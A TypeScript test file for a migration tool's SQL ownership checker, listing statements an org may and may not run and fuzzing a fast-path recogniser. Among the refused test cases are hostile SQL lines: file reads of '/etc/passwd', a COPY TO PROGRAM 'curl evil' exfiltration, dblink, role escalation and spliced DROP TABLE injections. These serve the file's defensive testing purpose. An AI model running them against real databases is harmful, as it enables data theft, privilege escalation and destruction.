/**
 * The ownership checker of org migrations (runtime/ownership.ts), as a table: statements an
 * org `acme` may write, and statements it may not, each with the object the refusal must
 * name. The workspace has the orgs acme, acme_corp and globex; core owns everything else.
 * Every statement shape the planner writes for an org (render-sql.ts, plan.ts, phase.ts,
 * distribution.ts, uninstall's archive moves) must pass.
 */
import fs from 'node:fs';
import path from 'node:path';
import * as fc from 'fast-check';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import {
  addConstraintNotValidOnceSql, addEnumValueSql, alterColumnSql, archiveEnumSql, archiveTableSql, attachConstraintSql,
  backfillSql, createIndexConcurrentlySql, createTableSql, createTriggerSql, disableRlsSql, dropIndexConcurrentlySql,
  dropNotNullViaCheckSql, dropTableSql, dropTriggerSql, enableRlsSql, readdNotValidSql, recreateEnumSql, recreateTableSql,
  restoreEnumSql, restoreTableSql, setNotNullViaCheckSql,
} from '../compiler/engine/render-sql.ts';
import { failLoudly } from '../compiler/emit/emit.ts';
import { ALLOWED_FUNCTIONS } from '../compiler/front/sql-allowlist.ts';
import type { SnapColumn, SnapTable } from '../compiler/ir.ts';
import { parseMigration } from '../runtime/files.ts';
import { classifySql, loadOwnershipParser, ownershipProblems, SAFE_FUNCTIONS } from '../runtime/ownership.ts';
import { recognisedClean, rulesFor } from '../runtime/ownership-shapes.ts';

await loadOwnershipParser();

const SCOPE = { orgs: ['acme', 'acme_corp', 'globex'], extensions: ['pgcrypto', 'citext', 'pg_trgm', 'vector'] };

/** The objects the checker names for `sql` written by `owner` ([] when it passes). */
function refused(sql: string, owner = 'acme'): string[] {
  return classifySql(sql, owner, SCOPE).map((f) => f.object);
}

const ALLOWED: readonly string[] = [
  `SET lock_timeout = '5s'`,
  `SET LOCAL statement_timeout = '1min'`,
  `CREATE TABLE acme_x (id uuid NOT NULL DEFAULT gen_random_uuid(), client_id uuid NOT NULL REFERENCES clients (id) ON DELETE CASCADE, n int CHECK (n >= 0))`,
  `CREATE TABLE public.acme_y (id serial PRIMARY KEY, x_id uuid REFERENCES "acme_x" ("id"), kind "acme_kind", core_kind core_status)`,
  `CREATE TABLE "public"."acme_z" (id int)`,
  `ALTER TABLE acme_x ADD CONSTRAINT acme_x_client_id_fkey FOREIGN KEY (client_id) REFERENCES public.clients (id) NOT VALID`,
  `ALTER TABLE acme_x VALIDATE CONSTRAINT acme_x_client_id_fkey`,
  `ALTER TABLE acme_x ADD COLUMN note text, DROP COLUMN n, ALTER COLUMN note SET DEFAULT lower('X')`,
  `CREATE INDEX acme_x_note_idx ON acme_x (lower(note)) WHERE note IS NOT NULL`,
  `CREATE INDEX CONCURRENTLY IF NOT EXISTS acme_x_trgm_idx ON acme_x USING gin (note gin_trgm_ops)`,
  `CREATE INDEX ON acme_x (client_id)`,
  `UPDATE acme_invoices SET total = amount * 2 WHERE total IS NULL`,
  `UPDATE acme_invoices i SET customer = c.name FROM acme_customers c WHERE c.id = i.customer_id`,
  `INSERT INTO acme_x (id, note) SELECT id, note FROM acme_y ON CONFLICT (id) DO NOTHING`,
  `DELETE FROM acme_x WHERE note = '' RETURNING id`,
  `WITH old AS (SELECT id FROM acme_x WHERE note IS NULL) UPDATE acme_x SET note = 'n/a' WHERE id IN (SELECT id FROM old)`,
  `WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 3) INSERT INTO acme_x (n) SELECT n FROM t`,
  `SELECT setval('"acme_x_id_seq"', COALESCE(max("id"), 0) + 1, false) FROM "acme_x"`,
  `ALTER TABLE acme_x ALTER COLUMN id SET DEFAULT nextval('acme_x_id_seq'::regclass)`,
  `ALTER TABLE "acme_x" ALTER COLUMN "note" TYPE varchar(512) USING "note"::varchar(512)`,
  `ALTER TABLE acme_x ALTER COLUMN kind TYPE "acme_kind" USING "kind"::text::"acme_kind"`,
  `ALTER TABLE acme_x ALTER COLUMN note DROP DEFAULT`,
  `ALTER TABLE acme_x ALTER COLUMN note SET NOT NULL`,
  `ALTER TABLE acme_x ALTER COLUMN note DROP NOT NULL`,
  `COMMENT ON TABLE acme_x IS 'clients'`,
  `COMMENT ON COLUMN acme_x.note IS NULL`,
  `CREATE TYPE acme_kind AS ENUM ('a', 'b')`,
  `ALTER TYPE acme_kind ADD VALUE 'c' BEFORE 'a'`,
  `ALTER TYPE acme_kind RENAME TO acme_kind_old`,
  `DROP TYPE acme_kind_old`,
  `ALTER TABLE acme_x RENAME TO acme_x2`,
  `ALTER TABLE acme_x RENAME COLUMN note TO remark`,
  `ALTER INDEX acme_x_note_idx RENAME TO acme_x_remark_idx`,
  `DROP TABLE acme_x`,
  `DROP INDEX CONCURRENTLY IF EXISTS acme_x_note_idx`,
  `CREATE EXTENSION IF NOT EXISTS pg_trgm`,
  `DROP EXTENSION IF EXISTS "pg_trgm"`,
  `CREATE SCHEMA IF NOT EXISTS archive_acme`,
  `ALTER TABLE archive_acme.acme_x SET SCHEMA public`,
  `SELECT create_distributed_table('"acme_x"', 'client_id')`,
  // The Citus forms compiler/engine/distribution.ts writes: guarded calls, the section settings.
  `DO $citus$ BEGIN IF EXISTS (SELECT FROM pg_catalog.pg_extension WHERE extname = 'citus') THEN PERFORM create_distributed_table('"acme_x"', 'client_id'); END IF; END $citus$`,
  `DO $citus$ BEGIN IF EXISTS (SELECT FROM pg_catalog.pg_extension WHERE extname = 'citus') THEN PERFORM create_reference_table('"acme_rates"'); END IF; END $citus$`,
  `SET LOCAL citus.multi_shard_modify_mode TO 'sequential'`,
  `SET LOCAL citus.enable_unsafe_triggers TO on`,
  `CREATE TABLE acme_corpus (id int)`,
  `CREATE POLICY acme_x_audit ON acme_x AS RESTRICTIVE USING (note IS NOT NULL)`,
  `CREATE TABLE acme_w (id int GENERATED ALWAYS AS IDENTITY (SEQUENCE NAME acme_w_seq))`,
  `DO $schemac$ BEGIN RAISE EXCEPTION '%', 'irreversible: drop column status (it''s gone)'; END $schemac$`,
  // A backfill as schemac wrote it before it added the #variable_conflict directive.
  `DO $schemac$\nDECLARE n bigint;\nBEGIN\n  LOOP\n    UPDATE "acme_x" SET "n" = 0 WHERE ctid = ANY (ARRAY(SELECT ctid FROM "acme_x" WHERE "n" IS NULL LIMIT 1000));\n    GET DIAGNOSTICS n = ROW_COUNT;\n    COMMIT;\n    EXIT WHEN n = 0;\n  END LOOP;\nEND;\n$schemac$`,
  `CREATE TABLE "acme_v" ("id" bigserial NOT NULL, "client_id" uuid NOT NULL, CONSTRAINT "acme_v_client_id_fkey" FOREIGN KEY ("client_id") REFERENCES "clients" ("id") ON DELETE CASCADE)`,
  `CREATE INDEX CONCURRENTLY "acme_v_idx" ON "acme_v" ("id") WHERE id <> 0 AND status IN ('a', 'b')`,
];

const REFUSED: readonly (readonly [string, string])[] = [
  // Core's and other orgs' objects, however they are spelled.
  [`DROP TABLE clients`, 'table "clients"'],
  [`DROP TABLE public.clients`, 'table "public"."clients"'],
  [`ALTER TABLE "public"."clients" ADD COLUMN x int`, 'table "public"."clients"'],
  [`ALTER TABLE acme_x RENAME TO clients`, 'table "clients"'],
  [`CREATE TABLE acme_corp_x (id int)`, 'table "acme_corp_x"'],
  [`CREATE TABLE "acme_corp_x" (id int)`, 'table "acme_corp_x"'],
  [`CREATE TABLE "ACME_x" (id int)`, 'table "ACME_x"'],
  [`CREATE TABLE other.acme_x (id int)`, 'table "other"."acme_x"'],
  [`CREATE TABLE acme_x (id int); DROP TABLE globex_y`, 'table "globex_y"'],
  [`DROP TABLE schemac_migrations`, 'table "schemac_migrations"'],
  [`UPDATE clients SET name = 'x'`, 'table "clients"'],
  [`DELETE FROM globex_orders`, 'table "globex_orders"'],
  [`TRUNCATE acme_x`, 'TRUNCATE'],
  [`DROP TYPE globex_status`, 'type "globex_status"'],
  [`ALTER TYPE core_status ADD VALUE 'x'`, 'type "core_status"'],
  [`DROP FUNCTION clients_set_updated_at()`, 'function "clients_set_updated_at"'],
  [`DROP TRIGGER clients_set_updated_at ON clients`, 'table "clients"'],
  [`DROP POLICY clients_isolation ON clients`, 'table "clients"'],
  [`DROP SEQUENCE clients_id_seq`, 'sequence "clients_id_seq"'],
  [`DROP INDEX clients_pkey`, 'index "clients_pkey"'],
  [`CREATE INDEX acme_i ON clients (name)`, 'table "clients"'],
  [`CREATE INDEX globex_i ON acme_x (id)`, 'index "globex_i"'],
  [`COMMENT ON TABLE clients IS 'pwned'`, 'table "clients"'],
  [`COMMENT ON COLUMN public.clients.name IS 'x'`, 'table "public"."clients"'],
  [`ALTER TABLE acme_x ADD CONSTRAINT acme_x_fk FOREIGN KEY (y) REFERENCES globex_y (id)`, 'table "globex_y"'],
  [`CREATE TABLE acme_x (y int REFERENCES acme_corp_y (id))`, 'table "acme_corp_y"'],
  [`CREATE TABLE acme_x (s globex_status)`, 'type "globex_status"'],
  [`CREATE TABLE acme_x (id int GENERATED ALWAYS AS IDENTITY (SEQUENCE NAME globex_orders_id_seq))`, 'sequence "globex_orders_id_seq"'],
  [`ALTER TABLE acme_x ADD COLUMN n int GENERATED ALWAYS AS (pg_backend_pid()) STORED`, 'function pg_backend_pid()'],
  [`ALTER TABLE acme_x SET SCHEMA archive_globex`, 'schema "archive_globex"'],
  [`ALTER TABLE archive_globex.globex_x SET SCHEMA public`, 'table "archive_globex"."globex_x"'],
  [`CREATE SCHEMA evil`, 'schema "evil"'],
  // The Citus forms, about another owner's table or with other settings.
  [`DO $citus$ BEGIN IF EXISTS (SELECT FROM pg_catalog.pg_extension WHERE extname = 'citus') THEN PERFORM create_distributed_table('"globex_y"', 'client_id'); END IF; END $citus$`, 'function create_distributed_table()'],
  [`DO $citus$ BEGIN IF EXISTS (SELECT FROM pg_catalog.pg_extension WHERE extname = 'citus') THEN PERFORM undistribute_table('"acme_x"'); END IF; END $citus$`, 'DO'],
  [`SET LOCAL citus.multi_shard_modify_mode TO 'parallel'`, 'SET citus.multi_shard_modify_mode'],
  [`SET citus.enable_unsafe_triggers TO on`, 'SET citus.enable_unsafe_triggers'],
  [`SET LOCAL citus.propagate_set_commands TO 'local'`, 'SET citus.propagate_set_commands'],
  [`DROP SCHEMA archive_acme`, 'OBJECT_SCHEMA'],
  // Reads of what the org does not own.
  [`INSERT INTO acme_x (name) SELECT name FROM clients`, 'table "clients"'],
  [`UPDATE acme_x SET name = (SELECT name FROM clients WHERE id = acme_x.client_id)`, 'table "clients"'],
  [`WITH x AS (DELETE FROM clients RETURNING *) SELECT * FROM x`, 'table "clients"'],
  [`WITH x AS (SELECT * FROM globex_y) INSERT INTO acme_x SELECT * FROM x`, 'table "globex_y"'],
  [`WITH a AS (SELECT * FROM clients), clients AS (SELECT 1) SELECT * FROM a`, 'table "clients"'],
  [`SELECT * FROM (WITH clients AS (SELECT 1) SELECT * FROM clients) s, clients`, 'table "clients"'],
  [`SELECT * FROM acme_x JOIN pg_authid ON true`, 'table "pg_authid"'],
  [`SELECT * FROM acme_x UNION SELECT * FROM globex_y`, 'table "globex_y"'],
  // Dangerous functions in otherwise owned statements.
  [`SELECT pg_read_file('/etc/passwd')`, 'function pg_read_file()'],
  [`UPDATE acme_x SET note = pg_read_file('/etc/passwd')`, 'function pg_read_file()'],
  [`SELECT * FROM dblink('host=x', 'select 1') AS t(a int)`, 'function dblink()'],
  [`SELECT lo_import('/etc/passwd')`, 'function lo_import()'],
  [`SELECT set_config('role', 'postgres', false)`, 'function set_config()'],
  [`SELECT pg_terminate_backend(pid) FROM acme_x`, 'function pg_terminate_backend()'],
  [`SELECT current_setting('data_directory')`, 'function current_setting()'],
  [`ALTER TABLE acme_x ALTER COLUMN note SET DEFAULT pg_catalog.pg_read_file('x')`, 'function pg_catalog.pg_read_file()'],
  [`ALTER TABLE acme_x ALTER COLUMN kind TYPE text USING kind::"globex_kind"`, 'type "globex_kind"'],
  [`ALTER TABLE acme_x ALTER COLUMN kind TYPE globex_kind`, 'type "globex_kind"'],
  [`CREATE TABLE acme_x (n text DEFAULT acme_helper())`, 'function acme_helper()'],
  [`SELECT nextval('clients_id_seq')`, 'function nextval()'],
  [`SELECT setval('globex_x_id_seq', 1)`, 'function setval()'],
  [`CREATE INDEX acme_i ON acme_x (public.evil(note))`, 'function public.evil()'],
  // Roles, privileges, the server, files.
  [`GRANT SELECT ON acme_x TO PUBLIC`, 'GRANT/REVOKE'],
  [`REVOKE ALL ON clients FROM app`, 'GRANT/REVOKE'],
  [`ALTER SYSTEM SET fsync = off`, 'ALTER SYSTEM'],
  [`SET ROLE postgres`, 'SET ROLE'],
  [`RESET ROLE`, 'RESET ROLE'],
  [`SET SESSION AUTHORIZATION postgres`, 'SET SESSION AUTHORIZATION'],
  [`SET search_path = archive_globex, public`, 'SET search_path'],
  [`COPY acme_x TO PROGRAM 'curl evil'`, 'COPY'],
  [`COPY acme_x FROM '/etc/passwd'`, 'COPY'],
  [`LOAD 'evil'`, 'LOAD'],
  [`CREATE ROLE evil SUPERUSER`, 'CREATE ROLE'],
  [`ALTER TABLE acme_x OWNER TO evil`, 'AT_ChangeOwner'],
  [`CREATE EXTENSION dblink`, 'extension "dblink"'],
  [`CREATE EXTENSION IF NOT EXISTS pg_trgm SCHEMA public CASCADE`, 'extension "pg_trgm"'],
  [`DROP EXTENSION pg_trgm CASCADE`, 'CASCADE'],
  [`DROP TABLE acme_x CASCADE`, 'CASCADE'],
  [`BEGIN`, 'a transaction statement (BEGIN/COMMIT/ROLLBACK)'],
  [`CREATE VIEW acme_v AS SELECT * FROM clients`, 'CREATE VIEW'],
  [`CREATE RULE acme_r AS ON INSERT TO acme_x DO INSTEAD DELETE FROM clients`, 'CREATE RULE'],
  // Functions, triggers, policies and DO blocks.
  [`CREATE FUNCTION acme_f() RETURNS int LANGUAGE sql AS 'SELECT 1'`, 'function'],
  [`CREATE OR REPLACE FUNCTION "acme_x_set_updated_at"() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $fn$\nBEGIN\n  NEW."updated_at" := now();\n  RETURN NEW;\nEND;\n$fn$`, 'function'],
  [`CREATE OR REPLACE FUNCTION "acme_x_set_updated_at"() RETURNS trigger LANGUAGE plpgsql AS $fn$\nBEGIN\n  DELETE FROM clients;\n  RETURN NEW;\nEND;\n$fn$`, 'function'],
  [`CREATE OR REPLACE FUNCTION "clients_set_updated_at"() RETURNS trigger LANGUAGE plpgsql AS $fn$\nBEGIN\n  NEW."updated_at" := now();\n  RETURN NEW;\nEND;\n$fn$`, 'function "clients_set_updated_at"'],
  [`CREATE TRIGGER acme_x_t BEFORE UPDATE ON acme_x FOR EACH ROW EXECUTE FUNCTION clients_set_updated_at()`, 'function "clients_set_updated_at"'],
  [`CREATE TRIGGER acme_x_t BEFORE UPDATE ON clients FOR EACH ROW EXECUTE FUNCTION acme_f()`, 'table "clients"'],
  [`CREATE POLICY acme_x_all ON acme_x USING (true)`, 'policy'],
  [`CREATE POLICY acme_x_tenant ON acme_x TO app USING ("client_id" = NULLIF(current_setting('app.client_id', true), '')::uuid) WITH CHECK ("client_id" = NULLIF(current_setting('app.client_id', true), '')::uuid)`, 'role'],
  [`DO $$ BEGIN DELETE FROM clients; END $$`, 'DO'],
  [`DO $$ BEGIN PERFORM 1; END $$`, 'DO'],
  [`DO $schemac$ BEGIN RAISE EXCEPTION '%', 'x'; DELETE FROM clients; END $schemac$`, 'DO'],
  [`DO LANGUAGE plpython3u $$ import os $$`, 'DO'],
  [`DO $schemac$ BEGIN\n  IF NOT EXISTS (SELECT 1 FROM pg_constraint WHERE conrelid = '"acme_x"'::regclass AND conname = 'k') THEN\n    DROP TABLE clients;\n  END IF;\nEND $schemac$`, 'table "clients"'],
  [`DO $schemac$ BEGIN\n  IF NOT EXISTS (SELECT 1 FROM pg_constraint WHERE conrelid = '"acme_x"'::regclass AND conname = 'k') THEN\n    ALTER TABLE acme_x VALIDATE CONSTRAINT k; DROP TABLE clients;\n  END IF;\nEND $schemac$`, 'DO'],
  [`DO $schemac$ BEGIN\n  IF NOT EXISTS (SELECT 1 FROM pg_constraint WHERE conrelid = '"clients"'::regclass AND conname = 'k') THEN\n    ALTER TABLE acme_x VALIDATE CONSTRAINT k;\n  END IF;\nEND $schemac$`, 'DO'],
  [`DO $schemac$\n#variable_conflict use_column\nDECLARE n bigint;\nBEGIN\n  LOOP\n    UPDATE clients SET name = 'x' WHERE ctid = ANY (ARRAY(SELECT ctid FROM clients LIMIT 1000));\n    GET DIAGNOSTICS n = ROW_COUNT;\n    COMMIT;\n    EXIT WHEN n = 0;\n  END LOOP;\nEND;\n$schemac$`, 'table "clients"'],
  [`DO $schemac$\nDECLARE n bigint;\nBEGIN\n  LOOP\n    UPDATE clients SET name = 'x' WHERE ctid = ANY (ARRAY(SELECT ctid FROM clients LIMIT 1000));\n    GET DIAGNOSTICS n = ROW_COUNT;\n    COMMIT;\n    EXIT WHEN n = 0;\n  END LOOP;\nEND;\n$schemac$`, 'table "clients"'],
  // What the parser cannot read is not run.
  [`CREATE TABLE acme_x (`, 'the section'],
];

for (const sql of ALLOWED) {
  test(`allowed: ${sql.slice(0, 90)}`, () => {
    assert.equal(refused(sql), [], sql);
  });
}

for (const [sql, object] of REFUSED) {
  test(`refused: ${sql.replace(/\n/g, ' ').slice(0, 90)}`, () => {
    const got = refused(sql);
    assert.ok(got.includes(object), `${sql}\n  want ${object}\n  got  ${JSON.stringify(got)}`);
  });
}

test('a name inside a longer org\'s prefix belongs to that org, both ways', () => {
  assert.equal(refused('CREATE TABLE acme_corp_x (id int)', 'acme_corp'), []);
  assert.equal(refused('CREATE TABLE acme_x (id int)', 'acme_corp'), ['table "acme_x"']);
  assert.equal(refused('CREATE TABLE acme_corpus (id int)', 'acme_corp'), ['table "acme_corpus"']);
});

test('the functions an org may call include every function a models fragment may', () => {
  for (const f of ALLOWED_FUNCTIONS) assert.ok(SAFE_FUNCTIONS.has(f), f);
});

const col = (name: string, type: string, extra: Partial<SnapColumn> = {}): SnapColumn => ({
  name, type, nullable: false, default: null, comment: null, ...extra,
} as SnapColumn);

const TABLE: SnapTable = {
  name: 'acme_items', comment: 'Items', tenant: 'client', columns: [
    col('id', 'serial'), col('client_id', 'uuid'), col('status', 'acme_status', { default: `'draft'` }),
    col('note', 'text', { nullable: true, comment: 'A note' }), col('updated_at', 'timestamptz', { default: 'now()' }),
  ],
  primaryKey: { name: 'acme_items_pkey', columns: ['id'] },
  foreignKeys: [{ name: 'acme_items_client_id_fkey', columns: ['client_id'], refTable: 'clients', refColumns: ['id'], onDelete: 'cascade', onUpdate: 'no action' }],
  uniques: [{ name: 'acme_items_note_key', columns: ['note'] }],
  checks: [{ name: 'acme_items_note_check', expr: `note <> ''` }],
  indexes: [{ name: 'acme_items_status_idx', columns: ['status'], unique: false, using: 'btree', where: `status <> 'draft'` }],
  triggers: [{ name: 'acme_items_set_updated_at', kind: 'set_updated_at', function: 'acme_items_set_updated_at', columns: ['updated_at'] }],
  rls: { policy: 'acme_items_tenant_isolation' },
};

/** The shapes of every render function above, for the fast path's tests too. */
function plannerShapes(): string[] {
  const fk = { kind: 'foreignKey', value: TABLE.foreignKeys[0] } as const;
  const usage = { table: 'acme_items', column: 'status', array: false, keepsType: true, upDefault: `'draft'`, downDefault: `'draft'` };
  const dependents = { indexes: [{ table: 'acme_items', index: TABLE.indexes[0] }], checks: [{ table: 'acme_items', check: TABLE.checks[0] }] };
  const shapes = [
    createTableSql(TABLE), recreateTableSql(TABLE), dropTableSql(TABLE),
    createTriggerSql('acme_items', TABLE.triggers[0]), dropTriggerSql('acme_items', TABLE.triggers[0]),
    enableRlsSql('acme_items', TABLE.rls!), disableRlsSql('acme_items', TABLE.rls!),
    addConstraintNotValidOnceSql('acme_items', fk), setNotNullViaCheckSql('acme_items', 'note', 'acme_items_note_not_null'),
    readdNotValidSql('acme_items', fk), readdNotValidSql('acme_items', { kind: 'check', value: TABLE.checks[0] }),
    dropNotNullViaCheckSql('acme_items', 'note', 'acme_items_note_not_null', true), dropNotNullViaCheckSql('acme_items', 'note', 'acme_items_note_not_null', false),
    createIndexConcurrentlySql('acme_items', TABLE.indexes[0]), dropIndexConcurrentlySql('acme_items_status_idx'),
    attachConstraintSql('acme_items', 'unique', 'acme_items_note_key'), backfillSql('acme_items', 'note', `lower('X')`),
    alterColumnSql('acme_items', col('id', 'integer'), col('id', 'serial'), ['type']),
    alterColumnSql('acme_items', col('id', 'serial'), col('id', 'bigserial'), ['type']),
    alterColumnSql('acme_items', col('note', 'text', { default: `'a'` }), col('note', 'varchar(10)', { default: `'b'`, nullable: true, comment: 'c' }), ['type', 'default', 'nullable', 'comment']),
    recreateEnumSql('acme_status', ['draft', 'paid'], [usage], dependents, 'up'),
    addEnumValueSql('acme_status', 'void', undefined, 'paid'),
    archiveTableSql(TABLE, 'archive_acme'), restoreTableSql(TABLE, 'archive_acme'),
    archiveEnumSql('acme_status', 'archive_acme'), restoreEnumSql('acme_status', 'archive_acme'),
    failLoudly(`irreversible: drop column "note" from "acme_items" (its data is gone; it's $1)`),
  ];
  return shapes;
}

test('every statement shape the planner writes for an org passes', () => {
  for (const sql of plannerShapes()) assert.equal(classifySql(sql, 'acme', SCOPE), [], sql);
});

// ---------------------------------------------------------------------------
// The fast path (runtime/ownership-shapes.ts): whatever it calls clean, the parser-based
// checker finds clean; and it does call the common shapes clean, so the parser is rarely loaded.
// ---------------------------------------------------------------------------

const ROOT = path.resolve(path.dirname(new URL(import.meta.url).pathname), '..');
const fast = (sql: string, owner = 'acme') => recognisedClean(sql, rulesFor(owner, SCOPE), SAFE_FUNCTIONS);

/** The sections of every org migration of the bundled workspace and of the golden cases. */
function orgSections(): { owner: string; sql: string; bundled: boolean }[] {
  const out: { owner: string; sql: string; bundled: boolean }[] = [];
  const add = (name: string, text: string, bundled: boolean) => {
    const { file } = parseMigration(name, text);
    if (file !== undefined && file.owner !== 'core') out.push({ owner: file.owner, sql: file.up, bundled }, { owner: file.owner, sql: file.down, bundled });
  };
  const dir = path.join(ROOT, 'generated/migrations');
  for (const n of fs.readdirSync(dir).filter((f) => f.endsWith('.sql'))) add(n, fs.readFileSync(path.join(dir, n), 'utf8'), true);
  const cases = path.join(ROOT, 'tests/cases/migrate');
  for (const c of fs.readdirSync(cases)) {
    for (const step of fs.readdirSync(path.join(cases, c)).filter((f) => /^\d\d\.sql$/.test(f))) {
      const parts = fs.readFileSync(path.join(cases, c, step), 'utf8').split(/^-- file: (.*)\n/m);
      for (let i = 1; i < parts.length; i += 2) add(parts[i], parts[i + 1], false);
    }
  }
  return out;
}

test('the fast path finds the bundled workspace\'s org migrations clean, and the parser agrees on every golden one', () => {
  const sections = orgSections();
  assert.ok(sections.filter((s) => s.bundled).length >= 4);
  for (const s of sections) {
    const scope = { ...SCOPE, orgs: [...SCOPE.orgs, s.owner] };
    if (s.bundled) assert.ok(recognisedClean(s.sql, rulesFor(s.owner, scope), SAFE_FUNCTIONS), s.sql.slice(0, 200));
    assert.equal(classifySql(s.sql, s.owner, scope), [], s.sql.slice(0, 200));
  }
});

test('the fast path calls clean only what the parser-based checker finds clean', () => {
  let clean = 0;
  for (const sql of [...ALLOWED, ...REFUSED.map(([s]) => s), ...plannerShapes()]) {
    if (!fast(sql)) continue;
    clean++;
    assert.equal(classifySql(sql, 'acme', SCOPE), [], sql);
  }
  assert.ok(clean >= 15, `the fast path recognised only ${clean} statements`);
});

/** Pieces a hostile edit may splice into a recognised statement. */
const SPLICES = [
  ' clients', ' "clients"', ' public.', '.', ' globex_y', ' acme_corp_x', ' pg_authid', ' schemac_migrations', ';', '; DROP TABLE clients;',
  ' (SELECT 1 FROM clients)', ' pg_read_file(\'x\')', ' E\'\\\'\'', " '", ' "', ' $$', ' $1', ' /*', ' --', '\n', ' CASCADE', ' NOT',
  ' NULL', ' DEFAULT', ' dblink(', ' (', ' )', ',', ' ::globex_t', ' U&"a"', ' 1e5', ' SECURITY DEFINER', ' TO evil', ' OWNER TO x',
  ' WITH (fillfactor = 10)', ' INHERITS (clients)', ' current_setting(\'role\')', ' set_config(', ' lower(', ' now()', ' EXISTS',
];

test('hostile edits of recognised statements: the fast path never calls clean what the parser-based checker refuses (bar syntax errors)', () => {
  const bases = [...ALLOWED, ...plannerShapes()].filter((s) => fast(s));
  let recognisedEdits = 0;
  fc.assert(fc.property(
    fc.constantFrom(...bases), fc.array(fc.tuple(fc.double({ min: 0, max: 1, noNaN: true }), fc.constantFrom(...SPLICES)), { minLength: 1, maxLength: 3 }),
    (base, edits) => {
      let sql = base;
      for (const [at, piece] of edits) {
        const i = Math.floor(at * sql.length);
        sql = sql.slice(0, i) + piece + sql.slice(i);
      }
      if (!fast(sql)) return;
      recognisedEdits++;
      // The fast path does not check an expression's grammar: what the parser cannot read,
      // PostgreSQL cannot either, and a query string that does not parse runs nothing.
      assert.equal(classifySql(sql, 'acme', SCOPE).filter((f) => f.object !== 'the section'), [], sql);
    },
  ), { numRuns: Number(process.env.OWNERSHIP_RUNS ?? 3000), seed: 13 });
  assert.ok(recognisedEdits > 0);
});

test('problems name the file, the section and the line and column of the offending node', async () => {
  const text = [
    '-- schemac: owner=acme description="x"',
    '-- migrate:up',
    'UPDATE acme_x SET n = 1;',
    'UPDATE acme_x',
    '  SET n = (SELECT count(*) FROM clients);',
    '-- migrate:down',
    'SELECT 1;',
    'DROP TABLE globex_y;',
  ].join('\n');
  const { file } = parseMigration('20260101_000000_custom_acme_x.sql', text);
  const problems = await ownershipProblems(file!, SCOPE);
  assert.equal(problems.map((p) => [p.section, p.line, p.column, p.object]), [
    ['up', 5, 33, 'table "clients"'],
    ['down', 8, 1, 'table "globex_y"'],
  ]);
  assert.is(text.slice(problems[0].start, problems[0].start + 7), 'clients');
  assert.match(problems[0].statement, /^UPDATE acme_x SET n = \(SELECT count\(\*\) FROM clients\)$/);
  assert.match(problems[1].message, /acme does not own/);
});

/** The problems of an acme migration with these sections, as `section object` strings. */
async function fileProblems(up: string, down: string): Promise<string[]> {
  const { file } = parseMigration('20260101_000000_custom_acme_x.sql', `-- schemac: owner=acme description="x"\n-- migrate:up\n${up}\n-- migrate:down\n${down}\n`);
  return (await ownershipProblems(file!, SCOPE)).map((p) => `${p.section}:${p.line} ${p.object}`);
}

test('a down may turn row-level security off only on a table it drops, or on one its up turned it on for', async () => {
  const off = 'ALTER TABLE "acme_x" NO FORCE ROW LEVEL SECURITY;\nALTER TABLE "acme_x" DISABLE ROW LEVEL SECURITY;';
  const on = 'ALTER TABLE "acme_x" ENABLE ROW LEVEL SECURITY;\nALTER TABLE "acme_x" FORCE ROW LEVEL SECURITY;';
  assert.equal(await fileProblems(off, on), [], 'an up turning it off is a models change (rls: false), the lint\'s to judge');
  assert.equal(await fileProblems(on, off), []);
  assert.equal(await fileProblems('SELECT 1;', `${off}\nDROP TABLE "acme_x";`), []);
  assert.equal(await fileProblems('SELECT 1;', `${off}\n${on}`), []);
  assert.equal(await fileProblems('SELECT 1;', `${off}\nALTER TABLE "acme_x" RENAME TO "acme_x2";\n${on.replace(/acme_x/g, 'acme_x2')}`), []);
  assert.equal(await fileProblems('SELECT 1;', off), ['down:5 table "acme_x"', 'down:6 table "acme_x"']);
  assert.equal(await fileProblems('SELECT 1;', `${off}\nALTER TABLE "acme_x" RENAME TO "acme_x2";\n${on}`), ['down:5 table "acme_x"', 'down:6 table "acme_x"']);
  assert.equal(await fileProblems(on.replace(/acme_x/g, 'acme_y'), off), ['down:6 table "acme_x"', 'down:7 table "acme_x"']);
  assert.equal(await fileProblems('SELECT 1;', 'ALTER TABLE acme_x DISABLE ROW LEVEL SECURITY, ADD COLUMN y int;'), ['down:5 table "acme_x"']);
});

test('core files are trusted', async () => {
  const { file } = parseMigration('20260101_000000_core_x.sql', '-- schemac: owner=core description="x"\n-- migrate:up\nDROP TABLE globex_y;\n');
  assert.equal(await ownershipProblems(file!, SCOPE), []);
});

test.run();
